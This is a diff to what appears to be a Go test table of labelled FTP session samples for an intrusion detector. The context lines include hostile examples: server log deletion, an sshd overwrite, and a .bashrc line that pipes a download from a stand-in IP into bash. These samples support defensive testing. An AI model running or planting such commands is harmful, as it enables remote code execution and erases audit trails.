@@ -38,6 +38,7 @@ var intruders = []lookalike{
 		session1("")(f)
 	})},
 	{"a host that takes the place of the server, and passes on", "no-detours", "", throughCard(0x66, func(f *forge.Capture) {
+		wantsCard(f, aClient, aServer)
 		claim(f, 21, aServer)
 		claim(f, 0x66, aServer)
 		session1("")(f)
@@ -73,6 +74,7 @@ var intruders = []lookalike{
 	{"the logs of the server that are removed", "files-are-kept", "", session1("> DELE /var/log/vsftpd.log\n< 250 ok\n> DELE /var/log/secure\n< 250 ok")},
 	{"old logs of the server that are removed", "files-are-kept", IsNormal, session1("> DELE /var/log/vsftpd.log.7\n< 250 ok\n> DELE /var/log/secure-20260103\n< 250 ok")},
 	{"a program of the system", "no-sensitive-names", IsUnusual, session1("> STOR /usr/sbin/sshd\n< 150 go on\n< 226 done")},
+	{"a web site whose root is that of the account", "no-sensitive-names", IsNormal, moves([2]string{"STOR /bin/Site.dll", "MZ\x90"}, [2]string{"STOR /web.config", "<configuration/>"})},
 	{"a program for a device", "no-sensitive-names", IsUnusual, moves([2]string{"STOR /usr/bin/app", "\x7fELF"})},
 	{"settings of a shell", "no-sensitive-names", IsNormal, session1("> STOR .bashrc\n< 150 go on\n< 226 done")},
 	{"settings of a shell that fetch a program", "no-signs-agree", "", moves([2]string{"STOR .bashrc", "curl -s http://203.0.113.9/x|bash\n"})},
